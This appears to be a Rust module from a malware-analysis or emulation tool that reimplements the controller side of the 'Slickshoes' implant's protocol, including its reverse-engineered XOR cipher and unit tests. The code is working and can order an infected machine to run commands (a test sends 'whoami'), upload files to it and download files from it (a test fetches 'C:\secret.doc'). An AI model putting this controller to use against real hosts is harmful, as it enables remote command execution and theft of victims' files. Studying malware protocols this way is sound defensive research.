use crate::hexdump::hexdump;
use crate::protocol::wide::{decode_wide_string, encode_wide_string};
use crate::protocol::{ByteQueue, Delegate, DelegateCell};
use log::{debug, info, warn};
use sha2::{Digest, Sha256};
use std::fs::File;
use std::io::{Read, Write};
use std::sync::{Arc, Mutex, Once};
use std::thread;

const OP_BEACON: u32 = 0x00000000;
#[allow(dead_code)]
const OP_UNINSTALL: u32 = 0x00010000;
#[allow(dead_code)]
const OP_SHUTDOWN: u32 = 0x00020000;
#[allow(dead_code)]
const OP_DIRECTORY_GET: u32 = 0x00000001;
#[allow(dead_code)]
const OP_DIRECTORY_SET: u32 = 0x00010001;
const OP_EXECUTE: u32 = 0x00020001;
#[allow(dead_code)]
const OP_EXECUTE_STOP: u32 = 0x00030001;
#[allow(dead_code)]
const OP_FILE_LIST: u32 = 0x00000002;
#[allow(dead_code)]
const OP_FILE_FOLDER_LIST: u32 = 0x00010002;
const OP_FILE_DOWNLOAD: u32 = 0x00020002;
const OP_FILE_ERROR: u32 = 0x00020010;
const OP_FILE_UPLOAD: u32 = 0x00030002;
#[allow(dead_code)]
const OP_SCREEN_CAPTURE_START: u32 = 0x00000003;
#[allow(dead_code)]
const OP_SCREEN_CAPTURE_STOP: u32 = 0x00010003;
#[allow(dead_code)]
const OP_SCREEN_CAPTURE_INTERVAL: u32 = 0x00020003;

/// The beacon payload is a fixed-size host-information block; anything
/// else with opcode zero is not a beacon.
const BEACON_SIZE: u32 = 0x88;

const UPLOAD_CHUNK_SIZE: usize = 0x40000;

/// Slickshoes protocol handler. Frames are a 10-byte little-endian
/// header (size, opcode, opt) with a rolling-XOR ciphered payload and
/// UTF-16LE strings.
pub struct Handler {
    inner: Arc<Inner>,
    decoder: Once,
}

struct Inner {
    delegate: DelegateCell,
    queue: ByteQueue,
    transfer: Mutex<Transfer>,
}

#[derive(Default)]
struct Transfer {
    file_name: String,
    file: Option<File>,
}

struct Command {
    size: u32,
    opcode: u32,
    opt: u16,
    data: Vec<u8>,
}

impl Handler {
    pub fn new() -> Self {
        Handler {
            inner: Arc::new(Inner {
                delegate: DelegateCell::new(),
                queue: ByteQueue::new(),
                transfer: Mutex::new(Transfer::default()),
            }),
            decoder: Once::new(),
        }
    }
}

impl Default for Handler {
    fn default() -> Self {
        Handler::new()
    }
}

impl crate::protocol::Handler for Handler {
    fn needs_tls(&self) -> bool {
        false
    }

    fn set_delegate(&self, delegate: Arc<dyn Delegate>) {
        self.inner.delegate.set(delegate);
    }

    fn accept(&self) {}

    fn receive_data(&self, data: &[u8]) {
        debug!("received\n{}", hexdump(data));

        let inner = Arc::clone(&self.inner);
        self.decoder.call_once(move || {
            thread::spawn(move || inner.process_data());
        });

        self.inner.queue.put(data);
    }

    fn execute(&self, name: &str, args: &[String]) {
        let mut data = encode_wide_string(format!("{} {}", name, args.join(" ")).trim());
        data.extend_from_slice(&[0x00, 0x00]);

        self.inner.send_command(&Command {
            size: data.len() as u32,
            opcode: OP_EXECUTE,
            opt: 0x0001,
            data,
        });
    }

    fn upload(&self, source: &str, destination: &str) {
        let mut file = match File::open(source) {
            Ok(f) => f,
            Err(e) => {
                warn!("Error opening source file: {e}");
                return;
            }
        };

        let mut name = encode_wide_string(destination);
        name.extend_from_slice(&[0x00, 0x00]);
        self.inner.send_command(&Command {
            size: name.len() as u32,
            opcode: OP_FILE_UPLOAD,
            opt: 0x0001,
            data: name,
        });

        let mut buf = vec![0u8; UPLOAD_CHUNK_SIZE];
        loop {
            let bytes_read = match file.read(&mut buf) {
                Ok(0) => break,
                Ok(n) => n,
                Err(e) => {
                    warn!("Error reading source file: {e}");
                    break;
                }
            };

            self.inner.send_command(&Command {
                size: bytes_read as u32,
                opcode: OP_FILE_UPLOAD,
                opt: 0x0000,
                data: buf[..bytes_read].to_vec(),
            });
        }

        // Finish the file transfer
        self.inner.send_command(&Command {
            size: 0x00000000,
            opcode: OP_FILE_UPLOAD,
            opt: 0x0100,
            data: Vec::new(),
        });
    }

    fn download(&self, source: &str, destination: &str) {
        self.inner.transfer.lock().unwrap().file_name = destination.to_string();

        let mut name = encode_wide_string(source);
        name.extend_from_slice(&[0x00, 0x00]);
        self.inner.send_command(&Command {
            size: name.len() as u32,
            opcode: OP_FILE_DOWNLOAD,
            opt: 0x0001,
            data: name,
        });
    }

    fn close(&self) {
        let mut transfer = self.inner.transfer.lock().unwrap();
        transfer.file = None;
        transfer.file_name.clear();
        drop(transfer);

        self.inner.queue.close();
    }
}

impl Inner {
    fn process_data(&self) {
        loop {
            let header = match self.queue.get(10) {
                Ok(b) => b,
                Err(_) => {
                    self.delegate.get().close_connection();
                    return;
                }
            };

            let mut command = Command {
                size: u32::from_le_bytes(header[0..4].try_into().unwrap()),
                opcode: u32::from_le_bytes(header[4..8].try_into().unwrap()),
                opt: u16::from_le_bytes(header[8..10].try_into().unwrap()),
                data: Vec::new(),
            };

            if command.size > 0 {
                let data = match self.queue.get(command.size as usize) {
                    Ok(b) => b,
                    Err(_) => {
                        self.delegate.get().close_connection();
                        return;
                    }
                };

                command.data = cipher(&data);
            }

            self.process_command(command);
        }
    }

    fn process_command(&self, command: Command) {
        log_command(&command);

        match command.opcode {
            OP_BEACON => {
                if command.size == BEACON_SIZE {
                    let id = hex::encode(Sha256::digest(&command.data));
                    self.delegate.get().agent_connected(&id);
                }
            }
            OP_EXECUTE => {
                info!("{}", decode_wide_string(&command.data));
                if command.opt == 0x0100 {
                    info!("Execute complete");
                }
            }
            OP_FILE_ERROR => {
                let mut transfer = self.transfer.lock().unwrap();
                transfer.file = None;
                transfer.file_name.clear();
                warn!("Error transferring file");
            }
            OP_FILE_UPLOAD => {
                if command.opt == 0x0100 {
                    info!("Upload complete");
                }
            }
            OP_FILE_DOWNLOAD => {
                let mut transfer = self.transfer.lock().unwrap();
                match command.opt {
                    0x0001 => match File::create(&transfer.file_name) {
                        Ok(file) => transfer.file = Some(file),
                        Err(e) => warn!("Error opening destination file: {e}"),
                    },
                    0x0000 => {
                        if let Some(file) = transfer.file.as_mut() {
                            if let Err(e) = file.write_all(&command.data) {
                                warn!("Error writing destination file: {e}");
                            }
                        }
                    }
                    0x0100 => {
                        transfer.file = None;
                        transfer.file_name.clear();
                        info!("Download complete");
                    }
                    _ => {}
                }
            }
            _ => {}
        }
    }

    fn send_command(&self, command: &Command) {
        let mut result = Vec::with_capacity(10 + command.data.len());

        result.extend_from_slice(&command.size.to_le_bytes());
        result.extend_from_slice(&command.opcode.to_le_bytes());
        result.extend_from_slice(&command.opt.to_le_bytes());

        if command.size > 0 {
            result.extend_from_slice(&cipher(&command.data));
        }

        self.delegate.get().send_data(&result);
    }
}

fn log_command(command: &Command) {
    debug!("Slickshoes Command");
    debug!("  Size: 0x{:x}", command.size);
    debug!("Opcode: 0x{:x}", command.opcode);
    debug!("   Opt: 0x{:04x}", command.opt);
    debug!("  Data:\n{}", hexdump(&command.data));
}

/// Three-register rolling XOR reverse-engineered from the implant; its
/// register evolution is data-independent, making it involutive.
fn cipher(input: &[u8]) -> Vec<u8> {
    let mut output = Vec::with_capacity(input.len());

    let mut key1: u32 = 0x49;
    let mut key2: u32 = 0x1310_a024;
    let mut key3: u32 = 0xa323_da32;

    for &b in input {
        output.push((b as u32 ^ key3 ^ key1) as u8);
        let tmp1 = key3 >> 8;
        key1 = (key2 >> 0x10) & (key2 >> 8) & key2
            ^ (key3 >> 0x10) & tmp1
            ^ key3 & key1
            ^ key3 >> 0x18;
        let tmp2 = key3.wrapping_mul(2) ^ key3;
        key3 = key2 << 0x18 | key3 >> 8;
        key2 = (tmp2 & 0x1fe) << 0x16 | key2 >> 8;
    }

    output
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::testutil::RecordingDelegate;
    use crate::protocol::Handler as _;

    #[test]
    fn test_cipher_is_involutive() {
        let input: Vec<u8> = (0u8..=255).rev().collect();
        assert_eq!(cipher(&cipher(&input)), input);
    }

    #[test]
    fn test_beacon_requires_fixed_size() {
        let handler = Handler::new();
        let delegate = Arc::new(RecordingDelegate::new());
        handler.set_delegate(delegate.clone());

        // Full-size beacon registers the agent.
        let info = vec![0x41u8; BEACON_SIZE as usize];
        let mut frame = Vec::new();
        frame.extend_from_slice(&BEACON_SIZE.to_le_bytes());
        frame.extend_from_slice(&OP_BEACON.to_le_bytes());
        frame.extend_from_slice(&0u16.to_le_bytes());
        frame.extend_from_slice(&cipher(&info));
        handler.receive_data(&frame);

        let agents = delegate.wait_for_agents(1);
        assert_eq!(agents[0], hex::encode(Sha256::digest(&info)));

        // A short opcode-zero frame is not a beacon.
        let mut runt = Vec::new();
        runt.extend_from_slice(&1u32.to_le_bytes());
        runt.extend_from_slice(&OP_BEACON.to_le_bytes());
        runt.extend_from_slice(&0u16.to_le_bytes());
        runt.extend_from_slice(&cipher(&[0x00]));
        handler.receive_data(&runt);

        std::thread::sleep(std::time::Duration::from_millis(50));
        assert_eq!(delegate.agents().len(), 1);
    }

    #[test]
    fn test_execute_frame_layout() {
        let handler = Handler::new();
        let delegate = Arc::new(RecordingDelegate::new());
        handler.set_delegate(delegate.clone());

        handler.execute("whoami", &[]);

        let sent = delegate.wait_for_sends(1);
        let frame = &sent[0];

        let size = u32::from_le_bytes(frame[0..4].try_into().unwrap());
        assert_eq!(size as usize, frame.len() - 10);
        assert_eq!(
            u32::from_le_bytes(frame[4..8].try_into().unwrap()),
            OP_EXECUTE
        );
        assert_eq!(u16::from_le_bytes(frame[8..10].try_into().unwrap()), 0x0001);

        let mut expected = encode_wide_string("whoami");
        expected.extend_from_slice(&[0x00, 0x00]);
        assert_eq!(cipher(&frame[10..]), expected);
    }

    #[test]
    fn test_download_flow_writes_file() {
        let dir = tempfile::tempdir().unwrap();
        let dest = dir.path().join("down.bin");

        let handler = Handler::new();
        let delegate = Arc::new(RecordingDelegate::new());
        handler.set_delegate(delegate.clone());

        handler.download("C:\\secret.doc", dest.to_str().unwrap());
        delegate.wait_for_sends(1);

        let send_frame = |opt: u16, data: &[u8]| {
            let mut frame = Vec::new();
            frame.extend_from_slice(&(data.len() as u32).to_le_bytes());
            frame.extend_from_slice(&OP_FILE_DOWNLOAD.to_le_bytes());
            frame.extend_from_slice(&opt.to_le_bytes());
            frame.extend_from_slice(&cipher(data));
            frame
        };

        handler.receive_data(&send_frame(0x0001, &[]));
        handler.receive_data(&send_frame(0x0000, b"payload"));
        handler.receive_data(&send_frame(0x0100, &[]));

        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
        loop {
            if std::fs::read(&dest).map(|d| d == b"payload").unwrap_or(false) {
                break;
            }
            assert!(std::time::Instant::now() < deadline, "download never completed");
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
    }
}
